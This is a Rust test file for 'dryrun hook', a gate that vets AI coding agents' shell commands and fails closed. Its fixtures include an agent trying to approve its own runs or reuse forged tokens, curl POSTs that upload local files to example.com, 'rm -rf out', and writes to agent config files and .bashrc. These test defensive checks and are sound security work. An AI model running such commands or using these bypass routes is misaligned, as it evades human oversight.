@@ -1,0 +1,480 @@
+//! `dryrun hook` as a security boundary, fed the hosts' exact event JSON
+//! (as Claude Code 2.1 and Codex 0.169 send it): it fails closed (exit 2,
+//! the reason on stderr, nothing on stdout) on garbage, a missing
+//! workspace, a dead daemon and a timeout; it denies an agent's own
+//! `dryrun` commands; and a host-prompt token is single-use and bound to
+//! its run.
+
+mod common;
+
+use std::io::Write;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output, Stdio};
+
+use common::{Value, bin};
+
+struct Ws {
+    _root: tempfile::TempDir,
+    ws: PathBuf,
+    state: PathBuf,
+}
+
+fn ws() -> Ws {
+    let root = tempfile::Builder::new()
+        .prefix("dryrun-hook-")
+        .tempdir_in("/tmp")
+        .unwrap();
+    let ws = root.path().join("ws");
+    std::fs::create_dir_all(&ws).unwrap();
+    std::fs::write(ws.join("a.txt"), "content-of-a\n").unwrap();
+    Ws {
+        state: root.path().join("state"),
+        _root: root,
+        ws,
+    }
+}
+
+fn claude_event(cwd: &Path, command: &str) -> Value {
+    serde_json::json!({
+        "session_id": "9a1f", "transcript_path": "/tmp/t.jsonl", "cwd": cwd,
+        "permission_mode": "default", "hook_event_name": "PreToolUse",
+        "tool_name": "Bash",
+        "tool_input": {"command": command, "description": "d", "timeout": 120000},
+        "tool_use_id": "toolu_01"
+    })
+}
+
+fn codex_event(event: &str, cwd: &Path, command: &str) -> Value {
+    serde_json::json!({
+        "session_id": "01a2", "turn_id": "01a3", "transcript_path": null, "cwd": cwd,
+        "hook_event_name": event, "model": "gpt-5", "permission_mode": "bypassPermissions",
+        "tool_name": "Bash", "tool_input": {"command": command}, "tool_use_id": "call_1"
+    })
+}
+
+fn hook(w: &Ws, host: &str, input: &[u8], env: &[(&str, &str)]) -> Output {
+    let mut c = Command::new(bin());
+    c.args(["hook", host])
+        .env("DRYRUN_LOCAL", "1")
+        .env("DRYRUN_STATE_DIR", &w.state)
+        .env_remove("DRYRUN_SOCKET")
+        .env_remove("CLAUDE_PROJECT_DIR")
+        .env_remove("DRYRUN_HOOK_WORKSPACE")
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped());
+    for (k, v) in env {
+        c.env(k, v);
+    }
+    let mut ch = c.spawn().unwrap();
+    ch.stdin.take().unwrap().write_all(input).unwrap();
+    ch.wait_with_output().unwrap()
+}
+
+fn answer(o: &Output) -> Value {
+    assert_eq!(
+        o.status.code(),
+        Some(0),
+        "stderr: {}",
+        String::from_utf8_lossy(&o.stderr)
+    );
+    serde_json::from_slice(&o.stdout).expect("one JSON answer")
+}
+
+fn blocks(o: &Output, why: &str) {
+    assert_eq!(o.status.code(), Some(2), "{o:?}");
+    assert!(o.stdout.is_empty(), "no answer on stdout when blocking");
+    let err = String::from_utf8_lossy(&o.stderr);
+    assert!(err.contains(why), "{err}");
+}
+
+#[test]
+fn garbage_input_blocks() {
+    let w = ws();
+    for input in [
+        &b"not json"[..],
+        b"",
+        b"{\"hook_event_name\": 3}",
+        &[0xff, 0xfe],
+    ] {
+        blocks(
+            &hook(&w, "claude-code", input, &[]),
+            "unreadable hook input",
+        );
+    }
+    // A Bash event without a command string, or without a cwd.
+    let mut e = claude_event(&w.ws, "ls");
+    e["tool_input"]["command"] = serde_json::json!(7);
+    blocks(
+        &hook(&w, "claude-code", e.to_string().as_bytes(), &[]),
+        "tool_input.command",
+    );
+    let mut e = claude_event(&w.ws, "ls");
+    e.as_object_mut().unwrap().remove("cwd");
+    blocks(
+        &hook(&w, "codex", e.to_string().as_bytes(), &[]),
+        "cwd is missing",
+    );
+}
+
+#[test]
+fn missing_workspace_blocks() {
+    let w = ws();
+    let e = claude_event(&w.ws.join("gone"), "ls");
+    blocks(
+        &hook(&w, "claude-code", e.to_string().as_bytes(), &[]),
+        "gone",
+    );
+}
+
+#[test]
+fn dead_daemon_blocks() {
+    let w = ws();
+    // A socket file nobody listens on.
+    let sock = w.ws.parent().unwrap().join("dead.sock");
+    drop(std::os::unix::net::UnixListener::bind(&sock).unwrap());
+    let e = claude_event(&w.ws, "echo hi > b.txt");
+    let mut c = Command::new(bin());
+    let o = c
+        .args(["hook", "claude-code"])
+        .env_remove("DRYRUN_LOCAL")
+        .env("DRYRUN_SOCKET", &sock)
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .and_then(|mut ch| {
+            ch.stdin
+                .take()
+                .unwrap()
+                .write_all(e.to_string().as_bytes())?;
+            ch.wait_with_output()
+        })
+        .unwrap();
+    blocks(&o, "cannot reach the dryrun daemon");
+    assert!(!w.ws.join("b.txt").exists());
+}
+
+#[test]
+fn timeout_blocks() {
+    let w = ws();
+    let e = claude_event(&w.ws, "sleep 20");
+    let t = std::time::Instant::now();
+    let o = hook(
+        &w,
+        "claude-code",
+        e.to_string().as_bytes(),
+        &[("DRYRUN_HOOK_DEADLINE_S", "2")],
+    );
+    blocks(&o, "no verdict within 2 s");
+    assert!(t.elapsed() < std::time::Duration::from_secs(15));
+}
+
+#[test]
+fn other_tools_and_events_pass_through_untouched() {
+    let w = ws();
+    let mut e = claude_event(&w.ws, "ls");
+    e["tool_name"] = "Read".into();
+    e["tool_input"] = serde_json::json!({"file_path": "/etc/passwd"});
+    let o = hook(&w, "claude-code", e.to_string().as_bytes(), &[]);
+    assert_eq!(o.status.code(), Some(0));
+    assert!(o.stdout.is_empty());
+    let mut e = claude_event(&w.ws, "ls");
+    e["hook_event_name"] = "PostToolUse".into();
+    let o = hook(&w, "claude-code", e.to_string().as_bytes(), &[]);
+    assert_eq!(o.status.code(), Some(0));
+    assert!(o.stdout.is_empty());
+    // Codex's apply_patch is a file edit, not a shell command.
+    let mut e = codex_event("PreToolUse", &w.ws, "*** Begin Patch");
+    e["tool_name"] = "apply_patch".into();
+    let o = hook(&w, "codex", e.to_string().as_bytes(), &[]);
+    assert!(o.status.success() && o.stdout.is_empty());
+}
+
+#[test]
+fn an_agent_cannot_run_dryrun_through_its_shell() {
+    let w = ws();
+    for cmd in [
+        "dryrun approve r6b0-1",
+        "sh -c 'dryrun promote r6b0-1'",
+        "env A=1 /usr/local/bin/dryrun --local approve r6b0-1",
+    ] {
+        for host in ["claude-code", "codex"] {
+            let e = if host == "codex" {
+                codex_event("PreToolUse", &w.ws, cmd)
+            } else {
+                claude_event(&w.ws, cmd)
+            };
+            let a = answer(&hook(&w, host, e.to_string().as_bytes(), &[]));
+            assert_eq!(
+                a["hookSpecificOutput"]["permissionDecision"], "deny",
+                "{host} {cmd}: {a}"
+            );
+        }
+    }
+    // The rewrite's exact shape for a run that does not exist: blocked.
+    let forged = format!("{} promote r6b0-1 --replay-output", bin().display());
+    blocks(
+        &hook(
+            &w,
+            "claude-code",
+            claude_event(&w.ws, &forged).to_string().as_bytes(),
+            &[],
+        ),
+        "r6b0-1 does not exist",
+    );
+    // Nothing was rehearsed for them.
+    assert!(
+        !w.state.join("runs").exists()
+            || std::fs::read_dir(w.state.join("runs")).unwrap().count() == 0
+    );
+}
+
+/// The ask answer for a risky command, and its rewritten command.
+fn ask(w: &Ws, command: &str) -> (String, String) {
+    let a = answer(&hook(
+        w,
+        "claude-code",
+        claude_event(&w.ws, command).to_string().as_bytes(),
+        &[],
+    ));
+    let out = &a["hookSpecificOutput"];
+    assert_eq!(out["permissionDecision"], "ask", "{a}");
+    assert_eq!(out["updatedInput"]["description"], "d", "other fields kept");
+    assert_eq!(out["updatedInput"]["timeout"], 120000);
+    let cmd = out["updatedInput"]["command"].as_str().unwrap().to_string();
+    let id = cmd
+        .split_whitespace()
+        .skip_while(|w| *w != "promote")
+        .nth(1)
+        .unwrap()
+        .to_string();
+    (id, cmd)
+}
+
+fn bash(w: &Ws, cmd: &str) -> Output {
+    Command::new("bash")
+        .args(["-c", cmd])
+        .current_dir(&w.ws)
+        .output()
+        .unwrap()
+}
+
+#[test]
+fn host_prompt_tokens_are_single_use_and_bound_to_their_run() {
+    let w = ws();
+    let (a, cmd_a) = ask(&w, "curl -X POST https://example.com/a -d @a.txt");
+    let (b, cmd_b) = ask(&w, "curl -X POST https://example.com/b");
+    let token_a = cmd_a.rsplit(' ').next().unwrap().to_string();
+    // A's token does not approve B.
+    let forged = cmd_b.replace(cmd_b.rsplit(' ').next().unwrap(), &token_a);
+    let o = bash(&w, &forged);
+    assert_eq!(o.status.code(), Some(4), "{o:?}");
+    assert!(String::from_utf8_lossy(&o.stderr).contains("no valid host-prompt grant"));
+    // A made-up token neither.
+    let o = bash(&w, &cmd_a.replace(&token_a, &"0".repeat(64)));
+    assert_eq!(o.status.code(), Some(4));
+    // A wrong guess consumed nothing: A's own yes still works, once.
+    let o = bash(&w, &cmd_a);
+    assert!(o.status.success(), "{o:?}");
+    let stderr = String::from_utf8_lossy(&o.stderr);
+    assert!(stderr.contains(&format!("applied the reviewed change set of run {a}")));
+    assert_eq!(bash(&w, &cmd_a).status.code(), Some(4));
+    // B's own token still works after the forged attempt? No: a wrong
+    // token for B is refused without consuming B's grant.
+    assert!(bash(&w, &cmd_b).status.success());
+    let _ = b;
+    // The rewrite presented to the hook again (a host that re-hooks it)
+    // is never allowed on its own say-so: it was spent, so deny.
+    let again = answer(&hook(
+        &w,
+        "claude-code",
+        claude_event(&w.ws, &cmd_a).to_string().as_bytes(),
+        &[],
+    ));
+    assert_eq!(again["hookSpecificOutput"]["permissionDecision"], "deny");
+    // A second grant for a run is refused (one token per run).
+    let o = Command::new(bin())
+        .args(["journal", "verify"])
+        .env("DRYRUN_LOCAL", "1")
+        .env("DRYRUN_STATE_DIR", &w.state)
+        .output()
+        .unwrap();
+    assert!(o.status.success());
+}
+
+#[test]
+fn a_blocked_run_is_denied_and_never_asked() {
+    let w = ws();
+    let e = claude_event(&w.ws, "echo x > .mcp.json");
+    let a = answer(&hook(&w, "claude-code", e.to_string().as_bytes(), &[]));
+    let out = &a["hookSpecificOutput"];
+    assert_eq!(out["permissionDecision"], "deny");
+    assert!(out.get("updatedInput").is_none());
+    let reason = out["permissionDecisionReason"].as_str().unwrap();
+    assert!(
+        reason.contains("forbidden paths touched: .mcp.json"),
+        "{reason}"
+    );
+    assert!(!w.ws.join(".mcp.json").exists());
+}
+
+#[test]
+fn codex_answers_follow_its_contract() {
+    let w = ws();
+    // Promote: allow with updatedInput.command (Codex rejects allow
+    // without a rewrite).
+    let a = answer(&hook(
+        &w,
+        "codex",
+        codex_event("PreToolUse", &w.ws, "echo hi > b.txt")
+            .to_string()
+            .as_bytes(),
+        &[],
+    ));
+    let out = &a["hookSpecificOutput"];
+    assert_eq!(out["permissionDecision"], "allow");
+    let rewrite = out["updatedInput"]["command"].as_str().unwrap().to_string();
+    assert!(rewrite.contains(" promote ") && rewrite.ends_with("--replay-output"));
+    // Needs approval: no ask in Codex; a rewrite that waits for a reviewer.
+    let a = answer(&hook(
+        &w,
+        "codex",
+        codex_event("PreToolUse", &w.ws, "curl -X POST https://example.com/c")
+            .to_string()
+            .as_bytes(),
+        &[],
+    ));
+    let out = &a["hookSpecificOutput"];
+    assert_eq!(out["permissionDecision"], "allow");
+    let waiting = out["updatedInput"]["command"].as_str().unwrap().to_string();
+    assert!(waiting.contains("--await-approval 300"), "{waiting}");
+    assert!(!waiting.contains("host-prompt-token"));
+    // PermissionRequest: only dryrun's own rewrite may go ahead.
+    let a = answer(&hook(
+        &w,
+        "codex",
+        codex_event("PermissionRequest", &w.ws, &rewrite)
+            .to_string()
+            .as_bytes(),
+        &[],
+    ));
+    assert_eq!(
+        a["hookSpecificOutput"]["hookEventName"],
+        "PermissionRequest"
+    );
+    assert_eq!(a["hookSpecificOutput"]["decision"]["behavior"], "allow");
+    let a = answer(&hook(
+        &w,
+        "codex",
+        codex_event("PermissionRequest", &w.ws, "rm -rf out")
+            .to_string()
+            .as_bytes(),
+        &[],
+    ));
+    assert_eq!(a["hookSpecificOutput"]["decision"]["behavior"], "deny");
+    assert!(
+        a["hookSpecificOutput"]["decision"]["message"]
+            .as_str()
+            .unwrap()
+            .len()
+            > 10
+    );
+    // Blocked: deny with a non-empty reason.
+    let a = answer(&hook(
+        &w,
+        "codex",
+        codex_event(
+            "PreToolUse",
+            &w.ws,
+            "mkdir -p .codex && echo x > .codex/config.toml",
+        )
+        .to_string()
+        .as_bytes(),
+        &[],
+    ));
+    assert_eq!(a["hookSpecificOutput"]["permissionDecision"], "deny");
+    assert!(
+        !a["hookSpecificOutput"]["permissionDecisionReason"]
+            .as_str()
+            .unwrap()
+            .is_empty()
+    );
+}
+
+#[test]
+fn a_command_outside_the_project_is_denied() {
+    let w = ws();
+    let home = w.ws.parent().unwrap().to_path_buf();
+    let e = claude_event(&home, "echo x > .bashrc");
+    let a = answer(&hook(
+        &w,
+        "claude-code",
+        e.to_string().as_bytes(),
+        &[("CLAUDE_PROJECT_DIR", w.ws.to_str().unwrap())],
+    ));
+    assert_eq!(a["hookSpecificOutput"]["permissionDecision"], "deny");
+    assert!(
+        a["hookSpecificOutput"]["permissionDecisionReason"]
+            .as_str()
+            .unwrap()
+            .contains("outside the project")
+    );
+    assert!(!home.join(".bashrc").exists());
+}
+
+/// Over the daemon, as an ordinary user (the agent) with root as the
+/// reviewer: the grant and the token travel over the socket, the token is
+/// bound to the uid it was issued to.
+#[test]
+fn over_the_daemon_the_host_prompt_yes_promotes_once() {
+    use common::daemon::{Daemon, user_workspace};
+    let d = Daemon::start(&[]);
+    let ws = user_workspace();
+    let event = claude_event(&ws.dir, "curl -X POST https://example.com/d -d @README.md");
+    let mut c = d.cli_user();
+    c.args(["hook", "claude-code"])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped());
+    let mut ch = c.spawn().unwrap();
+    ch.stdin
+        .take()
+        .unwrap()
+        .write_all(event.to_string().as_bytes())
+        .unwrap();
+    let a = answer(&ch.wait_with_output().unwrap());
+    let out = &a["hookSpecificOutput"];
+    assert_eq!(out["permissionDecision"], "ask", "{a}");
+    let yes = out["updatedInput"]["command"].as_str().unwrap().to_string();
+    assert!(yes.contains("--socket"), "{yes}");
+    // Root (another uid) holding the token cannot use it.
+    let o = Command::new("bash")
+        .args(["-c", &yes])
+        .current_dir(&ws.dir)
+        .output()
+        .unwrap();
+    assert_eq!(o.status.code(), Some(4), "{o:?}");
+    // It was bound to the agent's uid, and a refused attempt consumes
+    // nothing: the agent's own yes still works, once.
+    let o = common::as_test_user("bash")
+        .args(["-c", &yes])
+        .current_dir(&ws.dir)
+        .output()
+        .unwrap();
+    assert!(o.status.success(), "{o:?}");
+    let id = yes
+        .split_whitespace()
+        .skip_while(|w| *w != "promote")
+        .nth(1)
+        .unwrap();
+    let (_, rec) = d.curl(common::Who::Root, "GET", &format!("/v1/runs/{id}"), None);
+    assert_eq!(rec["state"], "promoted");
+    assert_eq!(rec["approvals"][0]["authenticated_by"], "agent_host_prompt");
+    let o = common::as_test_user("bash")
+        .args(["-c", &yes])
+        .current_dir(&ws.dir)
+        .output()
+        .unwrap();
+    assert_eq!(o.status.code(), Some(4));
+}
